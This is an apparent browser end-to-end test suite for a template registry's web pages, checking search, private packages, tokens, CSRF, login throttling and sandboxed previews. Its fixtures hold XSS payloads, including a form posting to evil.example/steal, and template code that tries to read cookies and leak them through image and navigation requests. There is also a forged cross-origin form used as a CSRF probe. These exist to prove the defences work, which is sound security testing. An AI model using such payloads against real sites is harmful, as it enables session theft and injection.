import { mkdir, readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKENDS } from './helpers/backends.js';
import { gzipTar, manifestFor, packageTarball, publishRaw, type RawEntry } from './helpers/packages.js';
import { ROOT } from './helpers/paths.js';
import { startTestServer, type TestServer } from './helpers/server.js';

/**
 * The web pages, driven in a real browser (Debian's Chromium through playwright-core) against the
 * real server binary on one backend (Postgres + S3 when TEST_DATABASE_URL is set).
 */
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const OUTPUT = join(ROOT, 'test/output');
const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
const backend = BACKENDS[BACKENDS.length - 1]!;

const HOSTILE_README = `# evil-readme

Looks harmless.

<script>alert('script tag')</script>
<img src="x" onerror="alert('onerror')">
<img src="https://evil.example/pixel.png" alt="tracker">
<svg><script>alert('svg script')</script><circle r="5" onload="alert('svg onload')"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<a href="javascript:alert('javascript link')">click me</a>
<a href="JaVaScRiPt&colon;alert('encoded')">encoded</a>
<form action="https://evil.example/steal"><input name="x"><button>Go</button></form>
<style>body { display: none }</style>
<div style="background:url(https://evil.example/bg.png)" onclick="alert('onclick')">styled</div>

[markdown link](javascript:alert('md link'))

![md image](https://evil.example/md.png)
`;

const DEMO_MANIFEST = manifestFor('demo-templates', '1.1.0', {
  description: 'React component templates with tests',
  keywords: ['react', 'component'],
  repository: 'https://git.example.com/acme/demo-templates.git',
  unjucks: {
    generators: {
      component: {
        description: 'components',
        templates: {
          react: {
            description: 'a React component',
            variables: {
              type: 'object',
              required: ['name'],
              properties: {
                name: { type: 'string', description: 'Component name' },
                withTests: { type: 'boolean', default: false, description: 'Also write a test' },
              },
            },
          },
        },
      },
    },
  },
});

const demoTarball = (version: string) =>
  gzipTar([
    { path: 'package/package.json', content: JSON.stringify({ ...DEMO_MANIFEST, version }) },
    { path: 'package/README.md', content: '# demo-templates\n\nMakes **React** components.\n\n```sh\nunjucks generate component react --name Button\n```\n' },
    {
      path: 'package/_templates/component/react/component.njk',
      content:
        '---\nto: src/{{ name }}.tsx\n---\nexport const {{ name }} = () => <div className="{{ name | lower }}" />;{% if withTests %}\n// with tests{% endif %}\n',
    },
  ]);

/**
 * A template that reaches for the page's cookies, its parent and the network from inside the
 * preview. EJS runs JavaScript by design (the validator reports it as the template-code
 * capability); the preview must contain it anyway.
 */
const HOSTILE_TEMPLATE = (port: string) =>
  [
    '---',
    'to: out.txt',
    '---',
    "cookie=[<%= (() => { try { return document.cookie } catch (e) { return 'blocked:' + e.name } })() %>]",
    "parent=[<%= (() => { try { return parent.document.title } catch (e) { return 'blocked:' + e.name } })() %>]",
    `net=[<%= (() => { try { new Image().src = 'http://127.0.0.1:${port}/-/web/leak-img'; return 'sent' } catch (e) { return 'blocked:' + e.name } })() %>]`,
    `top=[<%= (() => { try { top.location = 'http://127.0.0.1:${port}/-/web/leak-nav'; return 'navigated' } catch (e) { return 'blocked:' + e.name } })() %>]`,
    'name=<%= name %>',
    '',
  ].join('\n');

describe(`web pages in Chromium on ${backend.label}`, () => {
  let server: TestServer;
  let browser: Browser;
  let origin: string;
  const axeSource = readFile(AXE, 'utf8');

  const api = async (token: string | null, method: string, path: string, body?: unknown) => {
    const res = await fetch(`${server.api}${path}`, {
      method,
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await res.text();
    return { status: res.status, body: text ? JSON.parse(text) : null };
  };
  const password = (user: string) => `correct horse ${user}`;

  /** A page that records what a hostile page would do: dialogs, console errors, requests elsewhere. */
  async function watched(ctx: BrowserContext) {
    const page = await ctx.newPage();
    page.setDefaultTimeout(10_000);
    const seen = { dialogs: [] as string[], errors: [] as string[], foreign: [] as string[], requests: [] as string[] };
    page.on('dialog', (d) => {
      seen.dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (m) => {
      if (m.type() === 'error') seen.errors.push(m.text());
    });
    page.on('pageerror', (e) => seen.errors.push(String(e)));
    page.on('request', (r) => {
      seen.requests.push(r.url());
      if (!r.url().startsWith(origin) && !r.url().startsWith('data:') && !r.url().startsWith('about:')) seen.foreign.push(r.url());
    });
    return { page, seen };
  }

  async function checkA11y(page: Page, label: string) {
    await page.evaluate(await axeSource);
    const result = await page.evaluate(async () => {
      const axe = (
        globalThis as unknown as {
          axe: { run: (ctx: unknown, opts: unknown) => Promise<{ violations: { id: string; impact: string; nodes: { target: string[] }[] }[] }> };
        }
      ).axe;
      const r = await axe.run(document, { resultTypes: ['violations'] });
      return r.violations.map((v) => ({ id: v.id, impact: v.impact, targets: v.nodes.slice(0, 3).map((n) => n.target.join(' ')) }));
    });
    const serious = result.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    expect(serious, `${label}: ${JSON.stringify(serious)}`).toEqual([]);
  }

  const shot = (page: Page, name: string) => page.screenshot({ path: join(OUTPUT, `${name}.png`), fullPage: true });

  let loginChecked = false;
  async function signIn(ctx: BrowserContext, user: string) {
    const page = await ctx.newPage();
    page.setDefaultTimeout(10_000);
    await page.goto(`${origin}/-/web/login`);
    if (!loginChecked) {
      loginChecked = true;
      await checkA11y(page, 'login');
      await shot(page, 'login');
    }
    await page.getByLabel('User name').fill(user);
    await page.getByLabel('Password').fill(password(user));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(`${origin}/-/web/`);
    return page;
  }

  beforeAll(async () => {
    await mkdir(OUTPUT, { recursive: true });
    server = await startTestServer(backend);
    origin = server.url;
    const admin = server.adminToken;
    for (const user of ['alice', 'bob']) expect((await api(admin, 'POST', '/users', { name: user, password: password(user) })).status).toBe(201);
    for (const v of ['1.0.0', '1.1.0']) expect((await publishRaw(server.api, admin, demoTarball(v))).status).toBe(201);
    expect((await api(admin, 'PUT', '/packages/demo-templates/dist-tags/next', '1.1.0')).status).toBeLessThan(300);
    expect((await api(admin, 'POST', '/packages/demo-templates/1.0.0/deprecate', { message: 'use 1.1.0' })).status).toBe(200);
    const evilEntries: RawEntry[] = [
      { path: 'package/package.json', content: JSON.stringify(manifestFor('evil-readme', '1.0.0', { description: 'a README full of traps' })) },
      { path: 'package/README.md', content: HOSTILE_README },
      {
        path: 'package/_templates/component/react/component.njk',
        content: '---\nto: src/{{ name }}.tsx\nsh: npm install left-pad\n---\n<script>alert("in source")</script>{{ name }}\n',
      },
    ];
    expect((await publishRaw(server.api, admin, gzipTar(evilEntries))).status).toBe(201);
    const port = new URL(origin).port;
    const hostileTemplate: RawEntry[] = [
      { path: 'package/package.json', content: JSON.stringify(manifestFor('evil-template', '1.0.0', { description: 'a template that reaches out' })) },
      { path: 'package/README.md', content: '# evil-template\n' },
      { path: 'package/_templates/component/react/component.ejs.t', content: HOSTILE_TEMPLATE(port) },
      // Sends its own frame elsewhere once rendered (with what it could read in the query).
      {
        path: 'package/_templates/component/navigate/index.ejs.t',
        content: `---\nto: nav.txt\n---\n<% setTimeout(() => { location = 'http://127.0.0.1:${port}/-/web/leak-self?c=' + encodeURIComponent(String(Math.PI)) }, 0) %>leaving\n`,
      },
    ];
    const published = await publishRaw(server.api, admin, gzipTar(hostileTemplate));
    expect(published.status, JSON.stringify(published.body)).toBe(201);
    expect((await publishRaw(server.api, admin, packageTarball('@secret/internal', '1.0.0'))).status).toBe(201);
    expect((await api(admin, 'PUT', '/packages/@secret%2Finternal/visibility', { visibility: 'private' })).status).toBe(200);
    expect((await api(admin, 'PUT', '/packages/@secret%2Finternal/access/alice', { role: 'reader' })).status).toBe(200);
    // Thirty days of downloads, as the batched counter would have written them, for the chart.
    if (server.env.DATABASE_URL) {
      const sql = postgres(server.env.DATABASE_URL, { max: 1, onnotice: () => undefined });
      await sql`insert into downloads (package_id, day, count)
        select p.id, current_date - d, (d * 7) % 23 + 2 from packages p, generate_series(0, 29) d where p.name = 'demo-templates'`;
      await sql.end();
    }
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.destroy();
  });

  it('searches as you type, opens a package, reads its files; npm still gets JSON and browsers are redirected', async () => {
    const ctx = await browser.newContext();
    const { page, seen } = await watched(ctx);
    await page.goto(`${origin}/-/web/`);
    await checkA11y(page, 'home');
    await shot(page, 'home');
    await page.getByLabel('Search packages, generators and templates').pressSequentially('demo', { delay: 30 });
    // The results are swapped in as the query changes, and the address follows.
    await page.waitForURL(/\?q=demo$/);
    await expect.poll(() => page.locator('#results .count').textContent()).toBe('1 package');
    const first = page.locator('#results .hit').first();
    await expect.poll(() => first.textContent()).toContain('unjucks install demo-templates');
    expect(await first.textContent()).toContain('component (react)');
    expect(await page.locator('.facets').textContent()).toContain('react');
    await shot(page, 'search');
    await checkA11y(page, 'search');

    // A keyword facet narrows the query with the same qualifier the API takes.
    await page.locator('.facets a', { hasText: /^react$/ }).click();
    await page.waitForURL(/keyword%3Areact/);
    expect(await page.locator('#results .hit').count()).toBe(1);

    // A capability facet: a template that runs a shell command (frontmatter sh:) can be asked for or excluded.
    await page.goto(`${origin}/-/web/`);
    await page.locator('.facets a', { hasText: /^shell$/ }).click();
    await page.waitForURL(/capability%3Ashell/);
    expect(await page.locator('#results .hit h3 a').allTextContents()).toEqual(['evil-readme']);
    expect(await page.locator('#results .hit .badge-warn').first().textContent()).toBe('shell');
    await page.goto(`${origin}/-/web/`);
    await page.getByRole('link', { name: 'without shell' }).click();
    await page.waitForURL(/-capability%3Ashell/);
    const rest = await page.locator('#results .hit h3 a').allTextContents();
    expect(rest).toContain('demo-templates');
    expect(rest).not.toContain('evil-readme');
    await page.goto(`${origin}/-/web/?q=keyword%3Areact`);

    await page.locator('#results .hit a', { hasText: 'demo-templates' }).click();
    await page.waitForURL(`${origin}/-/web/package/demo-templates`);
    expect(await page.locator('h1').textContent()).toContain('demo-templates');
    expect(await page.locator('.readme strong').textContent()).toBe('React');
    const gen = await page.locator('#generators ~ section, section:has(#generators)').first().textContent();
    expect(gen).toContain('component/react');
    expect(gen).toContain('withTests');
    expect(gen).toContain('Component name');
    const versions = await page.locator('table.versions').textContent();
    expect(versions).toMatch(/1\.1\.0.*latest, next/s);
    expect(versions).toContain('deprecated');
    expect(await page.locator('.copy-line code').allTextContents()).toEqual(['unjucks install demo-templates', 'npm install --save-dev demo-templates']);
    expect(await page.locator('figure.chart svg rect').count()).toBe(30);
    if (server.env.DATABASE_URL) {
      const total = Array.from({ length: 30 }, (_, d) => ((d * 7) % 23) + 2).reduce((a, b) => a + b, 0);
      expect(await page.locator('figure.chart figcaption').textContent()).toBe(`${total} downloads in the last 30 days`);
    }
    expect(await page.locator('section:has(#report)').textContent()).toMatch(/Quality \d+\/100/);
    expect(await page.locator('a[href="https://git.example.com/acme/demo-templates"]').count()).toBe(1);
    await checkA11y(page, 'package');
    await shot(page, 'package');

    await page.locator('a', { hasText: /files,/ }).click();
    await page.locator('ul.files a', { hasText: '_templates/component/react/component.njk' }).click();
    await page.waitForURL(/path=/);
    expect(await page.locator('pre.source').textContent()).toContain('export const {{ name }}');
    await checkA11y(page, 'files');
    await shot(page, 'files');

    // A package's npm URL: browsers go to its page, npm keeps its JSON.
    await page.goto(`${origin}/demo-templates`);
    expect(page.url()).toBe(`${origin}/-/web/package/demo-templates`);
    await page.goto(`${origin}/demo-templates/1.0.0`);
    expect(page.url()).toBe(`${origin}/-/web/package/demo-templates?v=1.0.0`);
    expect(await page.locator('.notice-warn').textContent()).toContain('use 1.1.0');
    const version = await fetch(`${origin}/demo-templates/1.0.0`);
    expect((await version.json()).version).toBe('1.0.0');
    expect((await fetch(`${origin}/-/ping`, { headers: { accept: 'text/html' } })).status).toBe(200);
    const npm = await fetch(`${origin}/demo-templates`, { headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*' } });
    expect(npm.headers.get('content-type')).toContain('application/vnd.npm.install-v1+json');
    expect((await npm.json()).name).toBe('demo-templates');
    const plain = await fetch(`${origin}/demo-templates`);
    expect(plain.headers.get('content-type')).toContain('application/json');
    // Pages carry a strict CSP.
    const res = await fetch(`${origin}/-/web/package/demo-templates`);
    expect(res.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(res.headers.get('content-security-policy')).not.toContain('unsafe-inline');
    expect(seen.errors).toEqual([]);
    expect(seen.foreign).toEqual([]);
    // A version that is not there is a 404, not another version.
    const missing = await page.goto(`${origin}/-/web/package/demo-templates?v=9.9.9`);
    expect(missing!.status()).toBe(404);
    expect(await page.locator('.notice-error').textContent()).toContain('no version of demo-templates matches "9.9.9"');
    await ctx.close();
  });

  it('renders a hostile README without running anything or calling another origin', async () => {
    const ctx = await browser.newContext();
    const { page, seen } = await watched(ctx);
    await page.goto(`${origin}/-/web/package/evil-readme`);
    await page.waitForLoadState('networkidle');
    // Click what the README offers: nothing may run.
    for (const text of ['click me', 'encoded', 'markdown link', 'styled']) {
      const el = page.locator('.readme').getByText(text).first();
      if (await el.count()) await el.click({ timeout: 2000 }).catch(() => undefined);
    }
    const dom = await page.evaluate(() => {
      const readme = document.querySelector('.readme')!;
      const all = [...readme.querySelectorAll('*')];
      return {
        scripts: readme.querySelectorAll('script, iframe, form, style, svg, object, embed').length,
        handlers: all.filter((e) => [...e.attributes].some((a) => a.name.startsWith('on') || a.name === 'style')).length,
        jsLinks: [...readme.querySelectorAll('a')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
        foreignImages: [...readme.querySelectorAll('img')].filter((i) => /^(https?:)?\/\//.test(i.getAttribute('src') ?? '')).length,
        text: readme.textContent,
        visible: getComputedStyle(document.body).display,
      };
    });
    expect(dom).toMatchObject({ scripts: 0, handlers: 0, jsLinks: 0, foreignImages: 0, visible: 'block' });
    expect(dom.text).toContain('Looks harmless.');
    expect(seen.dialogs).toEqual([]);
    expect(seen.foreign).toEqual([]);
    // No error from injected code (a blocked image of the registry's own is a 404, not a script).
    expect(seen.errors.filter((e) => !/404|Failed to load resource/.test(e))).toEqual([]);
    expect(page.url()).toBe(`${origin}/-/web/package/evil-readme`);
    await shot(page, 'hostile-readme');
    // The template source in the file browser is text, not markup.
    await page.goto(`${origin}/-/web/package/evil-readme/files?path=_templates%2Fcomponent%2Freact%2Fcomponent.njk`);
    expect(await page.locator('pre.source').textContent()).toContain('<script>alert("in source")</script>');
    await page.goto(`${origin}/-/web/package/evil-readme`);
    const report = await page.locator('section:has(#report)').textContent();
    expect(report).toContain('shell');
    expect(report).toContain('_templates/component/react/component.njk');
    expect(seen.dialogs).toEqual([]);
    await shot(page, 'hostile-source');
    await ctx.close();
  });

  it('hides a private package from those who may not read it, and shows it to a reader', async () => {
    const anon = await browser.newContext();
    const page = await anon.newPage();
    const res = await page.goto(`${origin}/-/web/package/@secret/internal`);
    expect(res!.status()).toBe(404);
    expect(await page.locator('main').textContent()).not.toContain('templates for @secret/internal');
    for (const path of [
      '/-/web/?q=internal',
      '/-/web/?q=is%3Aprivate',
      '/-/web/search?q=scope%3A%40secret',
      '/-/web/package/@secret/internal/files',
      '/-/web/package/@secret/internal/preview?t=component%2Freact',
    ]) {
      await page.goto(`${origin}${path}`);
      expect(await page.content(), path).not.toContain('templates for @secret/internal');
    }
    expect((await page.goto(`${origin}/-/web/org/secret`))!.status()).toBe(404);
    await anon.close();

    const bobCtx = await browser.newContext();
    const bob = await signIn(bobCtx, 'bob');
    expect((await bob.goto(`${origin}/-/web/package/@secret/internal`))!.status()).toBe(404);
    await bob.goto(`${origin}/-/web/?q=internal`);
    expect(await bob.locator('#results').textContent()).not.toContain('@secret/internal');
    await bobCtx.close();

    const aliceCtx = await browser.newContext();
    const alice = await signIn(aliceCtx, 'alice');
    expect((await alice.goto(`${origin}/-/web/package/@secret/internal`))!.status()).toBe(200);
    expect(await alice.locator('h1').textContent()).toContain('@secret/internal');
    expect(await alice.locator('h1 .badge-private').count()).toBe(1);
    await alice.goto(`${origin}/-/web/?q=internal`);
    expect(await alice.locator('#results').textContent()).toContain('@secret/internal');
    await aliceCtx.close();
  });

  it('signs in, creates a token shown once, revokes it, and the API stops taking it; logout ends the session', async () => {
    const ctx = await browser.newContext();
    const page = await signIn(ctx, 'bob');
    const cookies = await ctx.cookies();
    const session = cookies.find((c) => c.name === 'unjucks_session')!;
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Lax' });
    await page.goto(`${origin}/-/web/tokens`);
    await checkA11y(page, 'tokens');
    await page.getByLabel('Label').fill('ci-from-web');
    await page.getByLabel('publish:update').check();
    await page.getByLabel(/Package patterns/).fill('demo-*');
    await page.getByLabel('Expires after').fill('7d');
    await page.getByLabel(/Allowed addresses/).fill('127.0.0.1');
    await page.getByRole('button', { name: 'Create token' }).click();
    const secret = await page.locator('input.secret').inputValue();
    expect(secret).toMatch(/^ey/);
    await shot(page, 'tokens');
    const row = page.locator('tr', { hasText: 'ci-from-web' });
    expect(await row.textContent()).toContain('read, publish:update');
    expect(await row.textContent()).toContain('demo-*');
    expect(await row.textContent()).toContain('127.0.0.1/32');

    const who = await api(secret, 'GET', '/whoami');
    expect(who.status).toBe(200);
    expect(who.body.user ?? who.body.username ?? who.body.name).toBe('bob');

    // Shown once: a reload lists the token but not its secret.
    await page.goto(`${origin}/-/web/tokens`);
    expect(await page.content()).not.toContain(secret);
    await expect.poll(() => page.locator('tr', { hasText: 'ci-from-web' }).textContent()).toContain('127.0.0.1');

    await page
      .locator('tr', { hasText: 'ci-from-web' })
      .getByRole('button', { name: /Revoke/ })
      .click();
    await page.waitForURL(/done=revoked/);
    expect(await page.locator('tr', { hasText: 'ci-from-web' }).textContent()).toContain('revoked');
    expect((await api(secret, 'GET', '/whoami')).status).toBe(401);

    // Logout: the copied cookie is dead at once.
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.waitForURL(`${origin}/-/web/`);
    const replay = await fetch(`${origin}/-/web/tokens`, { headers: { cookie: `unjucks_session=${session.value}` }, redirect: 'manual' });
    expect(replay.status).toBe(303);
    expect(replay.headers.get('location')).toContain('/-/web/login');
    await ctx.close();
  });

  it('refuses forms without the session CSRF token or from another origin', async () => {
    const ctx = await browser.newContext();
    const page = await signIn(ctx, 'alice');
    await page.goto(`${origin}/-/web/tokens`);
    const csrf = await page.locator('input[name="_csrf"]').first().inputValue();
    const before = await page.locator('table.tokens tbody tr').count();
    const post = (form: Record<string, string>, headers: Record<string, string>) =>
      ctx.request.post(`${origin}/-/web/tokens`, { form, headers, maxRedirects: 0 });
    const base = { name: 'csrf-probe', actions: 'read' };
    expect((await post(base, { origin })).status()).toBe(403);
    expect((await post({ ...base, _csrf: 'x'.repeat(43) }, { origin })).status()).toBe(403);
    expect((await post({ ...base, _csrf: csrf }, { origin: 'https://evil.example' })).status()).toBe(403);
    expect((await post({ ...base, _csrf: csrf }, {})).status()).toBe(403);
    // A page on another origin posting the form for real: the browser sends the cookie only if
    // SameSite allows it, and the token is missing anyway.
    const evil = await ctx.newPage();
    await evil.route('https://evil.example/', (r) =>
      r.fulfill({
        contentType: 'text/html',
        body: `<form id="f" method="post" action="${origin}/-/web/tokens"><input name="name" value="csrf-probe"><input name="actions" value="read"></form><script>document.getElementById('f').submit()</script>`,
      }),
    );
    await evil.goto('https://evil.example/');
    await evil.waitForURL(`${origin}/-/web/tokens`);
    expect(await evil.locator('main').textContent()).toMatch(/refused|Sign in/i);
    await page.reload();
    expect(await page.locator('table.tokens tbody tr').count()).toBe(before);
    expect(await page.content()).not.toContain('csrf-probe');
    // With the token and its own origin the same form works.
    expect((await post({ ...base, _csrf: csrf }, { origin })).status()).toBe(201);
    await ctx.close();
  });

  it("signs in with the API's throttling: wrong passwords are refused alike, then the name is locked out", async () => {
    const form = async () => {
      const res = await fetch(`${origin}/-/web/login`);
      return { cookie: res.headers.get('set-cookie')!.split(';')[0]!, csrf: /name="_csrf" value="([^"]+)"/.exec(await res.text())![1]! };
    };
    const attempt = async (username: string, pass: string) => {
      const f = await form();
      const res = await fetch(`${origin}/-/web/login`, {
        method: 'POST',
        redirect: 'manual',
        headers: { origin, cookie: f.cookie, 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ _csrf: f.csrf, username, password: pass, next: '/-/web/' }),
      });
      return { status: res.status, text: await res.text(), location: res.headers.get('location') };
    };
    const wrong = await attempt('bob', 'not the password');
    const nobody = await attempt('nobody', 'not the password');
    expect(wrong.status).toBe(401);
    expect(nobody.status).toBe(401);
    expect(wrong.text).toContain('wrong username or password');
    expect(nobody.text).toContain('wrong username or password');
    // One after another: one address may have only two password checks in flight (429 past that).
    for (let i = 0; i < 9; i++) expect((await attempt('nobody', 'still wrong')).status).toBe(401);
    const locked = await attempt('nobody', 'still wrong');
    expect(locked.status).toBe(429);
    expect(locked.text).toContain('too many wrong passwords');
    // The lockout is per name: bob still signs in, and lands where he was going.
    const ok = await attempt('bob', password('bob'));
    expect(ok.status).toBe(303);
    expect(ok.location).toBe('/-/web/');
    // A sign-in form without its cookie, or from another origin, is refused before any password check.
    const f = await form();
    const noCookie = await fetch(`${origin}/-/web/login`, {
      method: 'POST',
      headers: { origin, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: f.csrf, username: 'bob', password: password('bob') }),
    });
    expect(noCookie.status).toBe(403);
    const elsewhere = await fetch(`${origin}/-/web/login`, {
      method: 'POST',
      headers: { origin: 'https://evil.example', cookie: f.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: f.csrf, username: 'bob', password: password('bob') }),
    });
    expect(elsewhere.status).toBe(403);
  });

  it('previews a template in a sandboxed frame, and template code there reaches no cookie, parent or network', async () => {
    const ctx = await browser.newContext();
    const signed = await signIn(ctx, 'alice');
    await signed.close();
    const { page, seen } = await watched(ctx);
    await page.goto(`${origin}/-/web/package/demo-templates`);
    await page.locator('a', { hasText: 'Preview' }).first().click();
    await page.waitForURL(/\/preview\?/);
    expect(await page.locator('iframe#preview-frame').getAttribute('sandbox')).toBe('allow-scripts');
    await page.getByLabel(/name/).first().fill('FancyButton');
    await page.getByLabel(/withTests/).check();
    await page.getByRole('button', { name: 'Render' }).click();
    const frame = page.frameLocator('#preview-frame');
    await expect
      .poll(() => frame.locator('pre.output').first().textContent(), { timeout: 10_000 })
      .toContain('export const FancyButton = () => <div className="fancybutton" />;');
    expect(await frame.locator('h2').first().textContent()).toContain('src/FancyButton.tsx');
    expect(await frame.locator('pre.output').first().textContent()).toContain('// with tests');
    await checkA11y(page, 'preview');
    await shot(page, 'preview');

    const sessionCookie = (await ctx.cookies()).find((c) => c.name === 'unjucks_session')!.value;
    await page.goto(`${origin}/-/web/package/evil-template/preview?t=component%2Freact`);
    const title = await page.title();
    await page.getByLabel(/name/).first().fill('x');
    await page.getByRole('button', { name: 'Render' }).click();
    const evilFrame = page.frameLocator('#preview-frame');
    await expect.poll(() => evilFrame.locator('section').first().textContent(), { timeout: 10_000 }).toContain('name=x');
    const out = (await evilFrame.locator('main').textContent())!;
    expect(out).not.toContain(sessionCookie);
    expect(out).not.toContain(title);
    // An opaque origin has no cookies to read (reading them throws), and the parent is another origin.
    expect(out).toMatch(/cookie=\[(blocked:SecurityError)?\]/);
    expect(out).toContain('parent=[blocked:SecurityError]');
    await shot(page, 'preview-hostile');
    expect(await page.title()).toBe(title);

    // A template that sends its frame elsewhere: the page's frame-src allows only the preview document.
    await page.goto(`${origin}/-/web/package/evil-template/preview?t=component%2Fnavigate`);
    await page.getByRole('button', { name: 'Render' }).click();
    await page.waitForTimeout(1000);
    expect(page.url()).toContain('/-/web/package/evil-template/preview');
    expect(await page.title()).toContain('Preview');
    // The attempt was made, and the browser blocked it under the page's policy.
    expect(seen.errors.some((e) => /leak-self.*frame-src/s.test(e))).toBe(true);

    // Opened on its own, the frame document is still sandboxed by its CSP: an opaque origin.
    await page.goto(`${origin}/-/web/preview-frame`);
    expect(await page.evaluate(() => window.origin)).toBe('null');
    expect(
      await page.evaluate(() => {
        try {
          return document.cookie;
        } catch (e) {
          return (e as Error).name;
        }
      }),
    ).toBe('SecurityError');

    // Nothing reached the server: the browser refused every request before it left.
    expect(server.stdout()).not.toMatch(/leak-/);
    expect(seen.foreign).toEqual([]);
    await ctx.close();
  });

  it('shows org and user pages, the access page and the audit log, each accessible', async () => {
    const ctx = await browser.newContext();
    const page = await signIn(ctx, 'alice');
    await page.goto(`${origin}/-/web/user/admin`);
    expect(await page.locator('main').textContent()).toContain('demo-templates');
    expect(await page.locator('main').textContent()).toContain('@secret/internal');
    await checkA11y(page, 'user');
    expect((await page.goto(`${origin}/-/web/user/nobody-here`))!.status()).toBe(404);
    await page.goto(`${origin}/-/web/org/secret`);
    expect(await page.locator('main').textContent()).toContain('@secret/internal');
    await checkA11y(page, 'org');
    await page.goto(`${origin}/-/web/package/@secret/internal/access`);
    expect(await page.locator('main').textContent()).toContain('alice');
    expect(await page.locator('main').textContent()).toContain("Only the package's owners see and change the CI jobs trusted to publish it.");
    await checkA11y(page, 'access');
    // Alice reads the package but owns nothing: changing access is refused by the API's own rules.
    await page.getByLabel('Visibility').selectOption('public');
    await page.getByRole('button', { name: 'Set visibility' }).click();
    expect(await page.locator('.notice-error').textContent()).toMatch(/may not/);
    await page.goto(`${origin}/-/web/audit`);
    expect(await page.locator('.notice-error').textContent()).toMatch(/neither a registry admin/);
    await ctx.close();

    // The admin reads the audit log, which records what the pages did.
    const adminCtx = await browser.newContext();
    expect((await api(server.adminToken, 'PUT', '/users/admin/password', { password: password('admin') })).status).toBe(200);
    const admin = await signIn(adminCtx, 'admin');
    await admin.goto(`${origin}/-/web/audit?action=access.visibility&actor=alice`);
    const denied = await admin.locator('table.audit tbody tr').first().textContent();
    expect(denied).toContain('@secret/internal');
    expect(denied).toContain('denied (403)');
    await admin.goto(`${origin}/-/web/audit`);
    await checkA11y(admin, 'audit');
    await shot(admin, 'audit');
    await admin.goto(`${origin}/-/web/org/secret`);
    expect(await admin.locator('main').textContent()).toContain('Members');
    // Owners manage the org from its page, through the API's own functions (and their audit).
    await admin.getByLabel('Team name').fill('devs');
    await admin.getByRole('button', { name: 'Create team' }).click();
    await admin.waitForURL(/done=saved/);
    expect(await admin.locator('section:has(#t-h)').textContent()).toContain('devs: no members');
    await admin.getByLabel('User', { exact: true }).first().fill('alice');
    await admin.getByRole('button', { name: 'Add or change member' }).click();
    await admin.waitForURL(/done=saved/);
    expect(await admin.locator('section:has(#m-h) table').textContent()).toMatch(/alice\s*reader/);
    expect((await api(server.adminToken, 'GET', '/orgs/secret/teams')).body.teams).toEqual([{ name: 'devs', members: [] }]);
    // An owner grants access to a package from its access page.
    await admin.goto(`${origin}/-/web/package/@secret/internal/access`);
    await admin.getByLabel('User, or org:team').fill('bob');
    await admin.getByRole('combobox', { name: 'Role' }).selectOption('reader');
    await admin.getByRole('button', { name: 'Grant' }).click();
    await admin.waitForURL(/done=saved/);
    const grants = (await api(server.adminToken, 'GET', '/packages/@secret%2Finternal/access')).body.grants;
    expect(grants).toContainEqual({ principal: 'bob', kind: 'user', role: 'reader' });
    // The owner sets the review rule and trusts a CI job from the same page, through the API's functions.
    await admin.getByLabel('Approvals this package requires').fill('2');
    await admin.getByRole('button', { name: 'Set approvals' }).click();
    await admin.waitForURL(/done=saved/);
    expect((await api(server.adminToken, 'GET', '/packages/@secret%2Finternal/review-policy')).body).toMatchObject({ requiredApprovals: 2, effective: 2 });
    expect(await admin.locator('main').textContent()).toContain('New versions need 2 approval(s)');
    await admin.getByLabel('Repository (owner/repo)').fill('secret/internal');
    await admin.getByLabel('Repository owner id').fill('31337');
    await admin.getByLabel('Workflow file (optionally @ref)').fill('release.yml');
    await admin.getByRole('button', { name: 'Trust this CI job' }).click();
    await admin.waitForURL(/done=saved/);
    const trusted = (await api(server.adminToken, 'GET', '/packages/@secret%2Finternal/trusted-publishers')).body.trustedPublishers;
    expect(trusted).toEqual([
      expect.objectContaining({ repository: 'secret/internal', repositoryOwnerId: '31337', workflow: 'release.yml', environment: null }),
    ]);
    await checkA11y(admin, 'access (owner)');
    // The same job twice is refused with the API's message, and nothing is added.
    await admin.getByLabel('Repository (owner/repo)').fill('secret/internal');
    await admin.getByLabel('Repository owner id').fill('31337');
    await admin.getByLabel('Workflow file (optionally @ref)').fill('release.yml');
    await admin.getByRole('button', { name: 'Trust this CI job' }).click();
    expect(await admin.locator('.notice-error').textContent()).toMatch(/already trusts this publisher/);
    await admin.getByRole('button', { name: `Remove publisher ${trusted[0].id}` }).click();
    await admin.waitForURL(/done=saved/);
    expect((await api(server.adminToken, 'GET', '/packages/@secret%2Finternal/trusted-publishers')).body.trustedPublishers).toEqual([]);
    await admin.getByLabel('Approvals this package requires').fill('0');
    await admin.getByRole('button', { name: 'Set approvals' }).click();
    await admin.waitForURL(/done=saved/);
    await shot(admin, 'org');
    await adminCtx.close();
  });
});
